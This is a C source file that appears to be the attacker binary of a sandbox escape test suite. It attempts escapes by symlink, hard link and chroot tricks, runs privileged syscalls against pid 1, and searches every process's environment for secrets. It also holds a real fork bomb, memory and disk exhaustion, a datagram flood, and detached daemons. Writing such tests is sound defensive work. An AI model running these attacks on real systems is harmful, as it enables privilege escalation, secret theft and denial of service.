/* The attacker of the escape suite: one program, one attack per subcommand. Linked statically, so that it needs
 * nothing of the file tree it runs in.
 *
 * Every attempt prints one line, `name: result`, where the result is `ok` or the name of the error. What the result
 * must be is written in the test, not here. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static void report(const char *name, long result) {
    const char *error = result < 0 ? strerrorname_np(errno) : "ok";
    printf("%s: %s\n", name, error ? error : "unknown error");
    fflush(stdout);
}

static void nap(long milliseconds) {
    struct timespec time = {milliseconds / 1000, milliseconds % 1000 * 1000000};
    nanosleep(&time, NULL);
}

/* ---- files -------------------------------------------------------------------------------------------------- */

/* Opens each path and reads a byte; `empty` if there is none. */
static int read_files(int count, char **paths) {
    for (int i = 0; i < count; i++) {
        int fd = open(paths[i], O_RDONLY | O_NONBLOCK);
        char byte;
        ssize_t length = fd < 0 ? -1 : read(fd, &byte, 1);
        if (length == 0) printf("%s: empty\n", paths[i]);
        else report(paths[i], length);
        if (fd >= 0) close(fd);
    }
    return 0;
}

/* Opens each path for writing; opening is already the escape, so nothing is written. */
static int write_files(int count, char **paths) {
    for (int i = 0; i < count; i++) {
        int fd = open(paths[i], O_WRONLY);
        report(paths[i], fd);
        if (fd >= 0) close(fd);
    }
    return 0;
}

/* Creates a file under each directory. */
static int create_files(int count, char **directories) {
    for (int i = 0; i < count; i++) {
        char path[4096];
        snprintf(path, sizeof path, "%s/made-by-the-probe", directories[i]);
        int fd = open(path, O_WRONLY | O_CREAT, 0666);
        report(directories[i], fd);
        if (fd >= 0) close(fd);
    }
    return 0;
}

static const char *wanted;

static int found(const char *path, const struct stat *info, int kind, struct FTW *place) {
    (void)info, (void)kind;
    if (strcmp(path + place->base, wanted) == 0) printf("found: %s\n", path);
    return strncmp(path, "/proc/", 6) == 0 && kind == FTW_D ? FTW_SKIP_SUBTREE : FTW_CONTINUE;
}

/* Looks for a file name in the whole tree, and in the tree as every process sees it. */
static int search_tree(const char *name) {
    wanted = name;
    nftw("/", found, 64, FTW_PHYS | FTW_ACTIONRETVAL);
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        for (int i = 0; i < 2; i++) {
            char path[512];
            snprintf(path, sizeof path, "/proc/%s/%s/", entry->d_name, i ? "cwd" : "root");
            struct stat here, there;
            if (stat(path, &there) == 0 && stat("/", &here) == 0 && (here.st_ino != there.st_ino || here.st_dev != there.st_dev))
                nftw(path, found, 64, FTW_PHYS | FTW_ACTIONRETVAL);
        }
    }
    printf("searched\n");
    return 0;
}

/* Looks for a text in every process's environment and command line. */
static int search_processes(const char *text) {
    DIR *proc = opendir("/proc");
    static const char *const files[] = {"environ", "cmdline"};
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        for (size_t i = 0; i < 2; i++) {
            char path[512];
            static char content[1 << 20];
            snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, files[i]);
            int fd = open(path, O_RDONLY);
            ssize_t length = fd < 0 ? -1 : read(fd, content, sizeof content);
            if (fd >= 0) close(fd);
            if (length > 0 && memmem(content, (size_t)length, text, strlen(text))) printf("found: %s\n", path);
        }
    }
    printf("searched\n");
    return 0;
}

static int list(const char *directory) {
    DIR *open_directory = opendir(directory);
    if (!open_directory) {
        report(directory, -1);
        return 0;
    }
    for (struct dirent *entry; (entry = readdir(open_directory));)
        if (entry->d_name[0] != '.') printf("%s\n", entry->d_name);
    return 0;
}

/* Descriptors this program was started with. */
static int descriptors(void) {
    for (int fd = 0; fd < 65536; fd++)
        if (fcntl(fd, F_GETFD) >= 0) printf("%d\n", fd);
    return 0;
}

/* Links that lead out, and through mounts. Run in the workspace; `layer_file` is a file of a read-only layer. */
static int links(const char *layer_file, const char *host_secret) {
    char byte;
    report("symlink to a host file", symlink(host_secret, "out"));
    int fd = open("out", O_RDONLY);
    report("read through it", fd < 0 ? -1 : read(fd, &byte, 1));
    report("hard link to a system file", link("/usr/bin/env", "env"));
    report("hard link to the init", link("/proc/1/exe", "init"));
    report("hard link through a descriptor", linkat(AT_FDCWD, "/proc/self/fd/0", AT_FDCWD, "stdin", AT_SYMLINK_FOLLOW));
    /* Up from the workspace further than the tree is deep. */
    char up[4096] = "";
    for (int i = 0; i < 64; i++) strcat(up, "../");
    strcat(up, host_secret + 1);
    report("climb with ..", open(up, O_RDONLY));
    int workspace = open(".", O_RDONLY | O_DIRECTORY);
    report("climb from a descriptor", openat(workspace, up, O_RDONLY));
    char through[4200];
    snprintf(through, sizeof through, "/proc/self/cwd/%s", up);
    report("climb through /proc", open(through, O_RDONLY));
    /* A directory moved while one stands in it, the classic way out of a chroot. */
    mkdir("a", 0777), mkdir("a/b", 0777);
    int inside = open("a/b", O_RDONLY | O_DIRECTORY);
    report("move a directory away", rename("a/b", "/tmp/b"));
    report("climb from the moved one", openat(inside, up, O_RDONLY));
    /* The layer's file under a second name, then changed through it. */
    report("hard link to a layer's file", link(layer_file, "second"));
    fd = open("second", O_WRONLY | O_TRUNC);
    report("change it", fd < 0 ? -1 : write(fd, "changed", 7));
    report("overlay attribute of users", setxattr(".", "user.overlay.opaque", "y", 1, 0));
    report("overlay attribute of root", setxattr(".", "trusted.overlay.opaque", "y", 1, 0));
    report("capability on a file", setxattr(layer_file, "security.capability", "\1\0\0\2\377\377\377\377\0\0\0\0\0\0\0\0\0\0\0\0", 20, 0));
    return 0;
}

/* ---- network ------------------------------------------------------------------------------------------------ */

static int connect_to(const char *address, int port, int type) {
    struct sockaddr_in v4 = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    struct sockaddr_in6 v6 = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
    int is_v4 = inet_pton(AF_INET, address, &v4.sin_addr) == 1;
    if (!is_v4 && inet_pton(AF_INET6, address, &v6.sin6_addr) != 1) return errno = EINVAL, -1;
    int fd = socket(is_v4 ? AF_INET : AF_INET6, type | SOCK_NONBLOCK, 0);
    if (fd < 0) return -1;
    int result = is_v4 ? connect(fd, (void *)&v4, sizeof v4) : connect(fd, (void *)&v6, sizeof v6);
    if (result < 0 && errno != EINPROGRESS) return -1;
    struct pollfd ready = {.fd = fd, .events = POLLOUT};
    if (poll(&ready, 1, 4000) == 0) return errno = ETIMEDOUT, -1;
    int error;
    socklen_t size = sizeof error;
    getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &size);
    if (error) return errno = error, -1;
    fcntl(fd, F_SETFL, 0);
    return fd;
}

/* Arguments: address/port … ; a connection counts when a byte comes back, as from the listeners of the test. */
static int connect_all(int count, char **targets) {
    for (int i = 0; i < count; i++) {
        char address[128];
        int port;
        if (sscanf(targets[i], "%127[^/]/%d", address, &port) != 2) return 2;
        int fd = connect_to(address, port, SOCK_STREAM);
        report(targets[i], fd);
        if (fd >= 0) close(fd);
    }
    return 0;
}

/* Sends a datagram to each and waits a moment for an answer. */
static int datagrams(int count, char **targets) {
    for (int i = 0; i < count; i++) {
        char address[128], byte;
        int port;
        if (sscanf(targets[i], "%127[^/]/%d", address, &port) != 2) return 2;
        int fd = connect_to(address, port, SOCK_DGRAM);
        long result = fd < 0 ? -1 : send(fd, "x", 1, 0);
        struct pollfd ready = {.fd = fd, .events = POLLIN};
        if (result >= 0) {
            if (poll(&ready, 1, 700) == 0) errno = ETIMEDOUT, result = -1;
            else result = recv(fd, &byte, 1, 0);
        }
        report(targets[i], result);
        if (fd >= 0) close(fd);
    }
    return 0;
}

/* Connects to unix sockets; a leading @ means an abstract name. */
static int unix_sockets(int count, char **names) {
    for (int i = 0; i < count; i++) {
        struct sockaddr_un address = {.sun_family = AF_UNIX};
        strncpy(address.sun_path, names[i], sizeof address.sun_path - 1);
        socklen_t length = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(names[i]));
        if (names[i][0] == '@') address.sun_path[0] = 0;
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        report(names[i], connect(fd, (void *)&address, length));
        close(fd);
    }
    return 0;
}

/* Connections that stay open, until one is refused. */
static int connect_until_refused(void) {
    int connections = 0;
    while (connections < 3000 && connect_to("169.254.1.1", 80, SOCK_STREAM) >= 0) connections++;
    printf("connections: %d %s\n", connections, strerrorname_np(errno));
    return 0;
}

/* Small datagrams that are nothing, from many ports and as fast as possible, for two seconds. */
static int datagram_flood(void) {
    struct sockaddr_in resolver = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "10.0.2.3", &resolver.sin_addr);
    int sockets[64];
    for (int i = 0; i < 64; i++) sockets[i] = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    long sent = 0;
    for (time_t end = time(NULL) + 3; time(NULL) < end;)
        for (int i = 0; i < 1000; i++) sent += sendto(sockets[i % 64], "nonsense", 8, 0, (void *)&resolver, sizeof resolver) == 8;
    printf("sent: %ld\n", sent);
    return 0;
}

/* ---- system calls ------------------------------------------------------------------------------------------- */

static long clone_with(unsigned long flags) {
    long child = syscall(SYS_clone, flags | SIGCHLD, NULL, NULL, NULL, NULL);
    if (child == 0) _exit(0);
    if (child > 0) waitpid((pid_t)child, NULL, 0);
    return child;
}

static long clone3_with(uint64_t flags) {
    uint64_t arguments[11] = {flags, 0, 0, 0, SIGCHLD};
    long child = syscall(SYS_clone3, arguments, sizeof arguments);
    if (child == 0) _exit(0);
    if (child > 0) waitpid((pid_t)child, NULL, 0);
    return child;
}

static int system_calls(void) {
    char buffer[256] = {0};
    struct iovec ours = {buffer, 8}, theirs = {(void *)0x400000, 8};
    report("ptrace attach", ptrace(PTRACE_ATTACH, 1, 0, 0));
    report("ptrace seize", ptrace(PTRACE_SEIZE, 1, 0, 0));
    report("process_vm_readv", process_vm_readv(1, &ours, 1, &theirs, 1, 0));
    report("process_vm_writev", process_vm_writev(1, &ours, 1, &theirs, 1, 0));
    report("pidfd_getfd", syscall(SYS_pidfd_getfd, syscall(SYS_pidfd_open, 1, 0), 0, 0));
    report("kcmp", syscall(SYS_kcmp, 1, getpid(), 0, 0, 0));

    report("mount tmpfs", mount("none", "/tmp", "tmpfs", 0, NULL));
    report("mount proc", mount("none", "/tmp", "proc", 0, NULL));
    report("mount bind", mount("/proc", "/tmp", NULL, MS_BIND, NULL));
    report("remount /usr", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
    report("remount /", mount(NULL, "/", NULL, MS_REMOUNT, NULL));
    report("remount /proc/sys", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
    report("make / shared", mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL));
    report("umount /proc", umount2("/proc", MNT_DETACH));
    report("umount /usr", umount2("/usr", MNT_DETACH));
    report("umount /workspace", umount2("/workspace", MNT_DETACH));
    report("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
    report("chroot", chroot("/tmp"));
    report("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
    report("move_mount", syscall(SYS_move_mount, AT_FDCWD, "/usr", AT_FDCWD, "/tmp", 0));
    report("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
    report("mount_setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/usr", 0, buffer, 32));
    report("open_by_handle_at", syscall(SYS_open_by_handle_at, open("/", O_RDONLY), buffer, O_RDONLY));
    report("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", buffer, buffer + 128, 0));

    report("unshare user", unshare(CLONE_NEWUSER));
    report("unshare mount", unshare(CLONE_NEWNS));
    report("unshare net", unshare(CLONE_NEWNET));
    report("unshare pid", unshare(CLONE_NEWPID));
    report("clone user", clone_with(CLONE_NEWUSER));
    report("clone mount", clone_with(CLONE_NEWNS));
    report("clone user, high bits set", clone_with(CLONE_NEWUSER | 0xffffffff00000000UL));
    report("clone3 user", clone3_with(CLONE_NEWUSER));
    report("clone3 into time", clone3_with(0x80 /* CLONE_NEWTIME */));
    report("setns mnt of pid 1", setns(open("/proc/1/ns/mnt", O_RDONLY), 0));
    report("setns user of self", setns(open("/proc/self/ns/user", O_RDONLY), 0));

    report("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3, 1));
    report("add_key", syscall(SYS_add_key, "user", "probe", "x", 1, -3));
    report("request_key", syscall(SYS_request_key, "user", "probe", NULL, -3));
    report("bpf", syscall(SYS_bpf, 0, buffer, 128));
    report("perf_event_open", syscall(SYS_perf_event_open, buffer, 0, -1, -1, 0));
    report("userfaultfd", syscall(SYS_userfaultfd, 0));
    report("io_uring_setup", syscall(SYS_io_uring_setup, 4, buffer));
    report("fanotify_init", syscall(SYS_fanotify_init, 0, 0));

    report("socket raw icmp", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    report("socket raw ip", socket(AF_INET, SOCK_RAW, IPPROTO_RAW));
    report("socket raw ip6", socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6));
    report("socket packet", socket(AF_PACKET, SOCK_RAW, htons(3)));
    report("socket old packet", socket(AF_INET, SOCK_PACKET, htons(3)));
    report("socket vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
    report("socket alg", socket(AF_ALG, SOCK_SEQPACKET, 0));
    report("socket xdp", socket(AF_XDP, SOCK_RAW, 0));
    report("socket netlink audit", socket(AF_NETLINK, SOCK_RAW, 9));
    report("socket netlink netfilter", socket(AF_NETLINK, SOCK_RAW, 12));
    report("socket bluetooth", socket(AF_BLUETOOTH, SOCK_RAW, 1));

    report("mknod mem", mknod("/tmp/mem", S_IFCHR | 0666, makedev(1, 1)));
    report("mknod disk", mknod("/tmp/disk", S_IFBLK | 0666, makedev(254, 0)));
    report("mknod in the workspace", mknod("/workspace/mem", S_IFCHR | 0666, makedev(1, 1)));
    report("setuid 0", setuid(0));
    report("setgid 0", setgid(0));
    report("setresuid 0", setresuid(0, 0, 0));
    gid_t none[1] = {0};
    report("setgroups", setgroups(1, none));
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct all[2] = {{~0U, ~0U, ~0U}, {~0U, ~0U, ~0U}};
    report("capset", syscall(SYS_capset, &header, all));
    report("chown to root", chown("/workspace", 0, 0));
    report("ambient capability", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0));
    report("drop no_new_privs", prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0));
    report("raise processes", prlimit(0, RLIMIT_NPROC, &(struct rlimit){RLIM_INFINITY, RLIM_INFINITY}, NULL));
    report("raise open files", prlimit(0, RLIMIT_NOFILE, &(struct rlimit){1 << 30, 1 << 30}, NULL));
    report("limits of pid 1", prlimit(1, RLIMIT_NOFILE, &(struct rlimit){3, 3}, NULL));
    report("real-time", sched_setscheduler(0, SCHED_FIFO, &(struct sched_param){50}));
    report("higher priority", setpriority(PRIO_PROCESS, 0, -10));

#ifdef __x86_64__
    report("ioperm", syscall(SYS_ioperm, 0, 1, 1));
    report("iopl", syscall(SYS_iopl, 3));
    report("modify_ldt", syscall(SYS_modify_ldt, 1, buffer, 16));
    report("kexec_file_load", syscall(SYS_kexec_file_load, 0, 0, 0, "", 0));
#endif
    report("personality read implies exec", personality(READ_IMPLIES_EXEC));
    report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    report("init_module", syscall(SYS_init_module, buffer, 1, ""));
    report("finit_module", syscall(SYS_finit_module, 0, "", 0));
    report("delete_module", syscall(SYS_delete_module, "x", 0));
    report("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0 /* CAD_OFF */, NULL));
    report("swapon", syscall(SYS_swapon, "/tmp/x", 0));
    report("acct", syscall(SYS_acct, "/tmp/acct"));
    report("syslog", syscall(SYS_syslog, 3, buffer, sizeof buffer));
    report("sethostname", sethostname("x", 1));
    report("settimeofday", settimeofday(&(struct timeval){1, 0}, NULL));
    report("clock_settime", clock_settime(CLOCK_REALTIME, &(struct timespec){1, 0}));
    report("quotactl", syscall(SYS_quotactl, 0, NULL, 0, NULL));
    report("vhangup", syscall(SYS_vhangup));
    char letter = 'x';
    report("TIOCSTI", ioctl(0, TIOCSTI, &letter));
    report("TIOCSTI, high bits set", syscall(SYS_ioctl, 0, TIOCSTI | 0xffffffff00000000UL, &letter));
    report("TIOCLINUX", ioctl(0, TIOCLINUX, &letter));
    report("TIOCSETD", ioctl(0, TIOCSETD, buffer));

    /* And the ordinary ones, which must work or nothing above means anything. */
    report("control: getpid", getpid());
    report("control: fork", clone_with(0));
    report("control: socket", socket(AF_INET, SOCK_STREAM, 0));
    report("control: socketpair", socketpair(AF_UNIX, SOCK_STREAM, 0, (int[2]){0}));
    report("control: mmap", mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) == MAP_FAILED ? -1 : 0);
    report("control: personality", personality(0xffffffff));
    return 0;
}

/* Calls under the numbers of another architecture, where the numbers mean something else. */
static int other_architecture(const char *which) {
#ifdef __x86_64__
    long result;
    if (strcmp(which, "i386") == 0) {
        __asm__ volatile("int $0x80" : "=a"(result) : "a"(20 /* getpid */) : "memory", "r8", "r9", "r10", "r11");
    } else {
        result = syscall(0x40000000 | SYS_getpid);
    }
    errno = result < 0 ? (int)-result : 0;
    report(which, result);
#else
    printf("%s: not this machine\n", which);
#endif
    return 0;
}

/* What the program is: identity, capabilities, seccomp. */
static int identity(void) {
    char line[256];
    printf("uid: %d %d\ngid: %d %d\n", getuid(), geteuid(), getgid(), getegid());
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof line, status))
        if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Seccomp:", 8) || !strncmp(line, "Groups", 6))
            for (char *at = line; *at; at++)
                if (*at != '\t') putchar(*at);
    return 0;
}

/* Signals to pid 1, to everybody, and to a number that means a process on the host. */
static int signals(int host_pid) {
    static const int numbers[] = {SIGTERM, SIGINT, SIGHUP, SIGUSR1, SIGSEGV, SIGSTOP, SIGKILL, SIGCHLD};
    report("signal to a host process", kill(host_pid, SIGKILL));
    report("signal to its group", kill(-host_pid, SIGKILL));
    report("signal to pid 1, allowed at all", kill(1, 0));
    for (size_t i = 0; i < sizeof numbers / sizeof *numbers; i++) kill(1, numbers[i]);
    sigset_t set;
    sigemptyset(&set);
    union sigval value = {0};
    sigqueue(1, SIGRTMIN, value);
    nap(200);
    printf("still here\n");
    fflush(stdout);
    kill(-1, SIGKILL);
    nap(200);
    printf("and after everybody was killed\n");
    return 0;
}

/* ---- greed -------------------------------------------------------------------------------------------------- */

/* Children that stay; stops at the first refusal and says how many there are. */
static int fork_until_refused(void) {
    int children = 0;
    for (; children < 100000; children++) {
        pid_t child = fork();
        if (child == 0)
            for (;;) pause();
        if (child < 0) break;
    }
    printf("children: %d %s\n", children, strerrorname_np(errno));
    return 0;
}

static void *sleeper(void *nothing) {
    for (;;) pause();
    return nothing;
}

static int threads_until_refused(void) {
    int threads = 0;
    pthread_attr_t small;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 16384);
    pthread_t thread;
    while (threads < 100000 && pthread_create(&thread, &small, sleeper, NULL) == 0) threads++;
    printf("threads: %d\n", threads);
    return 0;
}

/* The real thing: every process forks for ever, detached and deaf. */
static _Noreturn void fork_bomb(void) {
    for (int i = 1; i < 65; i++) signal(i, SIG_IGN);
    for (;;) {
        if (fork() == 0) setsid();
    }
}

/* Touches memory, saying how much it has, until something gives. */
static int memory(int children) {
    for (int i = 0; i < children; i++)
        if (fork() == 0) break;
    const size_t piece = 4 << 20;
    for (int pieces = 1; pieces < 4096; pieces++) {
        char *room = mmap(NULL, piece, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (room == MAP_FAILED) {
            printf("refused: %s\n", strerrorname_np(errno));
            fflush(stdout);
            return 3;
        }
        for (size_t at = 0; at < piece; at += 4096) room[at] = 1;
        char line[64];
        int length = snprintf(line, sizeof line, "%d\n", 4 * pieces);
        if (write(1, line, (size_t)length) < 0) return 4;
    }
    return 0;
}

/* Memory that belongs to no process: anonymous files, the shared memory file system, segments of System V, pipes. */
static int hidden_memory(const char *how) {
    static char block[1 << 20];
    memset(block, 7, sizeof block);
    int fd = -1;
    if (strcmp(how, "memfd") == 0) fd = memfd_create("hog", 0);
    if (strcmp(how, "shm") == 0) fd = open("/dev/shm/hog", O_CREAT | O_RDWR, 0600);
    for (int megabytes = 1; megabytes < 16384; megabytes++) {
        long given = 0;
        if (strcmp(how, "sysv") == 0) {
            /* Filled, then let go of: it stays until somebody removes it. */
            int segment = shmget(IPC_PRIVATE, sizeof block, 0600);
            char *room = segment < 0 ? (char *)-1 : shmat(segment, NULL, 0);
            given = room == (char *)-1 ? -1 : 0;
            if (given == 0) memcpy(room, block, sizeof block), shmdt(room);
        } else if (strcmp(how, "pipes") == 0) {
            int ends[2];
            given = pipe2(ends, O_NONBLOCK);
            if (given == 0) fcntl(ends[1], F_SETPIPE_SZ, sizeof block);
            if (given == 0 && write(ends[1], block, sizeof block) < (ssize_t)sizeof block) errno = ENOBUFS, given = -1;
        } else {
            given = write(fd, block, sizeof block) == (ssize_t)sizeof block ? 0 : -1;
        }
        if (given < 0) {
            printf("refused: %s\n", strerrorname_np(errno));
            return 3;
        }
        char line[64];
        int length = snprintf(line, sizeof line, "%d\n", megabytes);
        if (write(1, line, (size_t)length) < 0) return 4;
    }
    return 0;
}

/* One big file. */
static int fill(const char *path) {
    signal(SIGXFSZ, SIG_IGN);
    static char block[1 << 20];
    memset(block, 7, sizeof block);
    int fd = open(path, O_CREAT | O_WRONLY, 0600);
    long megabytes = 0;
    while (fd >= 0 && megabytes < 100000 && write(fd, block, sizeof block) == (ssize_t)sizeof block) megabytes++;
    printf("megabytes: %ld %s\n", megabytes, strerrorname_np(errno));
    fflush(stdout);
    nap(1000);
    return 3;
}

/* Many small files, also deleted ones that are kept open. */
static int litter(const char *directory) {
    char path[4096], block[16384];
    memset(block, 7, sizeof block);
    long files = 0;
    for (; files < 10000000; files++) {
        if (files % 1000 == 0) {
            snprintf(path, sizeof path, "%s/%ld", directory, files / 1000);
            if (mkdir(path, 0700) < 0) break;
        }
        snprintf(path, sizeof path, "%s/%ld/%ld", directory, files / 1000, files);
        int fd = open(path, O_CREAT | O_WRONLY, 0600);
        if (fd < 0 || write(fd, block, sizeof block) < 0) break;
        close(fd);
    }
    printf("files: %ld %s\n", files, strerrorname_np(errno));
    fflush(stdout);
    nap(1000);
    return 3;
}

/* Files without a name still take room. */
static int nameless(const char *directory) {
    static char block[1 << 20];
    char path[4096];
    long megabytes = 0, written = sizeof block;
    for (int i = 0; i < 200 && written == sizeof block; i++) {
        snprintf(path, sizeof path, "%s/gone", directory);
        int fd = open(path, O_CREAT | O_WRONLY, 0600);
        unlink(path);
        for (int j = 0; j < 16 && (written = write(fd, block, sizeof block)) == sizeof block; j++) megabytes++;
    }
    printf("megabytes: %ld %s\n", megabytes, strerrorname_np(errno));
    fflush(stdout);
    nap(1000);
    return 3;
}

static int flood(int fd) {
    static char block[65536];
    memset(block, 'x', sizeof block);
    for (long i = 0; i < 16384; i++) /* 1 GB */
        if (write(fd, block, sizeof block) < 0 && errno != EAGAIN) return 3;
    return 0;
}

static int open_until_refused(void) {
    int files = 0;
    while (files < 1 << 24 && open("/dev/null", O_RDONLY) >= 0) files++;
    printf("files: %d %s\n", files, strerrorname_np(errno));
    return 0;
}

static volatile unsigned long counter;

static void *spin(void *nothing) {
    for (;;) counter++;
    return nothing;
}

static int busy(int threads) {
    pthread_t thread;
    for (int i = 1; i < threads; i++) pthread_create(&thread, NULL, spin, NULL);
    spin(NULL);
    return 0;
}

static _Noreturn void deaf(void) {
    for (int i = 1; i < 65; i++) signal(i, SIG_IGN);
    printf("deaf\n");
    fflush(stdout);
    for (;;) pause();
}

/* Leaves processes behind: twice forked, in a session of their own, deaf, with closed output; one of them holds
 * the output open. Each writes to a file for as long as it lives. */
static int daemonise(const char *file) {
    for (int i = 0; i < 4; i++) {
        if (fork() != 0) continue;
        setsid();
        if (fork() != 0) _exit(0);
        for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
        if (i != 3) close(0), close(1), close(2);
        int fd = open(file, O_CREAT | O_WRONLY | O_APPEND, 0666);
        for (;;) {
            if (write(fd, "x", 1) < 0) _exit(1);
            nap(10);
        }
    }
    nap(300);
    printf("left\n");
    return 0;
}

/* ---- the neighbour ------------------------------------------------------------------------------------------ */

/* Works for ever: asks the gateway, keeps a file, and says after each round that it did. */
static int neighbour(void) {
    for (long round = 0;; round++) {
        char sent[64], received[64] = {0};
        int length = snprintf(sent, sizeof sent, "round %ld\n", round);
        int fd = connect_to("169.254.1.1", 80, SOCK_STREAM);
        if (fd < 0 || send(fd, sent, (size_t)length, 0) != length) return perror("gateway"), 5;
        for (int got = 0; got < length;) {
            ssize_t count = recv(fd, received + got, (size_t)(length - got), 0);
            if (count <= 0) return perror("answer"), 6;
            got += (int)count;
        }
        close(fd);
        if (strcmp(sent, received) != 0) return 7;
        int file = open("/workspace/kept", O_CREAT | O_TRUNC | O_RDWR, 0600);
        char again[64] = {0};
        if (write(file, sent, (size_t)length) != length || pread(file, again, sizeof again, 0) != length) return perror("file"), 8;
        close(file);
        if (strcmp(sent, again) != 0) return 9;
        pid_t child = fork();
        if (child == 0) _exit(42);
        int status;
        if (child < 0 || waitpid(child, &status, 0) != child || WEXITSTATUS(status) != 42) return perror("child"), 10;
        printf("beat\n");
        fflush(stdout);
        nap(25);
    }
}

int main(int count, char **arguments) {
    /* Set in every sandbox. Without it this would attack the machine of whoever starts it by hand. */
    if (prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) != 1) return fprintf(stderr, "only to be run in a sandbox\n"), 2;
    const char *attack = count > 1 ? arguments[1] : "";
    char **rest = arguments + 2;
    const char *first = count > 2 ? rest[0] : "";
    const char *second = count > 3 ? rest[1] : "";
    int more = count - 2;
    if (!strcmp(attack, "read")) return read_files(more, rest);
    if (!strcmp(attack, "write")) return write_files(more, rest);
    if (!strcmp(attack, "create")) return create_files(more, rest);
    if (!strcmp(attack, "search-tree")) return search_tree(first);
    if (!strcmp(attack, "search-processes")) return search_processes(first);
    if (!strcmp(attack, "list")) return list(first);
    if (!strcmp(attack, "descriptors")) return descriptors();
    if (!strcmp(attack, "links")) return links(first, second);
    if (!strcmp(attack, "connect")) return connect_all(more, rest);
    if (!strcmp(attack, "datagrams")) return datagrams(more, rest);
    if (!strcmp(attack, "unix")) return unix_sockets(more, rest);
    if (!strcmp(attack, "connections")) return connect_until_refused();
    if (!strcmp(attack, "datagram-flood")) return datagram_flood();
    if (!strcmp(attack, "system-calls")) return system_calls();
    if (!strcmp(attack, "architecture")) return other_architecture(first);
    if (!strcmp(attack, "identity")) return identity();
    if (!strcmp(attack, "signals")) return signals(atoi(first));
    if (!strcmp(attack, "forks")) return fork_until_refused();
    if (!strcmp(attack, "threads")) return threads_until_refused();
    if (!strcmp(attack, "fork-bomb")) fork_bomb();
    if (!strcmp(attack, "memory")) return memory(atoi(first));
    if (!strcmp(attack, "hidden-memory")) return hidden_memory(first);
    if (!strcmp(attack, "fill")) return fill(first);
    if (!strcmp(attack, "litter")) return litter(first);
    if (!strcmp(attack, "nameless")) return nameless(first);
    if (!strcmp(attack, "flood")) return flood(atoi(first));
    if (!strcmp(attack, "files")) return open_until_refused();
    if (!strcmp(attack, "busy")) return busy(atoi(first));
    if (!strcmp(attack, "deaf")) deaf();
    if (!strcmp(attack, "daemonise")) return daemonise(first);
    if (!strcmp(attack, "neighbour")) return neighbour();
    fprintf(stderr, "no attack named `%s`\n", attack);
    return 2;
}
